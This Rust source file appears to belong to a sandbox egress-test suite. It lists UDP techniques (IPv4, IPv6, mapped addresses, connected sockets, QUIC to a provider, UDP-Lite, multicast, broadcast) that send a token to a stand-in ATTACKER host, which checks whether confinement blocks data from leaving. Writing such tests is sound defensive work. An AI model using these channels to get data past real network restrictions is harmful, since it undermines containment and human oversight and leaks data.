//! Datagrams: UDP and its relatives, to one, to many, to all.

use std::net::{IpAddr, Ipv4Addr};

use super::call::{at, family, inet, mapped, open, send, send_to, set};
use super::{Aim, Failure, INET, Technique, packet};
use crate::sys::attempt;
use crate::verify::ground::{ATTACKER, ATTACKER_V6, PROVIDER};

pub(super) const ROWS: &[Technique] = &[
    Technique::wire("udp4", "UDP to a foreign IPv4 address", "7", INET, |a| udp(a, ATTACKER, 443)),
    Technique::wire("udp6", "UDP to a foreign IPv6 address", "7", INET, |a| {
        udp(a, ATTACKER_V6, 443)
    }),
    Technique::wire("udp-mapped", "UDP to ::ffff:a.b.c.d", "2 7", INET, |a| {
        udp(a, mapped(ATTACKER), 443)
    }),
    Technique::wire("udp-connected", "UDP, connected first", "7", INET, udp_connected),
    Technique::wire("udp-provider", "UDP to the provider:443 (QUIC)", "7", INET, |a| {
        udp(a, PROVIDER, 443)
    }),
    Technique::wire("udp-lite", "UDP-Lite", "7", INET, udp_lite).optional(),
    Technique::wire("multicast", "UDP to a multicast group", "17", INET, |a| {
        udp(a, packet::group4(), 9)
    }),
    Technique::wire("broadcast", "UDP to everyone", "17", INET, broadcast),
];

fn udp(aim: &Aim, ip: IpAddr, port: u16) -> Result<(), Failure> {
    let fd = open(family(ip), libc::SOCK_DGRAM, 0)?;
    send_to(&fd, aim.token.as_bytes(), 0, ip, port)
}

fn udp_lite(aim: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET, libc::SOCK_DGRAM, libc::IPPROTO_UDPLITE)?;
    send_to(&fd, aim.token.as_bytes(), 0, ATTACKER, 443)
}

fn udp_connected(aim: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    attempt::connect(&fd, &inet(ATTACKER, 443)).map_err(at("connect"))?;
    send(aim, &fd)
}

fn broadcast(aim: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    set(&fd, libc::SOL_SOCKET, libc::SO_BROADCAST, &1i32.to_ne_bytes())?;
    send_to(&fd, aim.token.as_bytes(), 0, Ipv4Addr::BROADCAST.into(), 9)
}
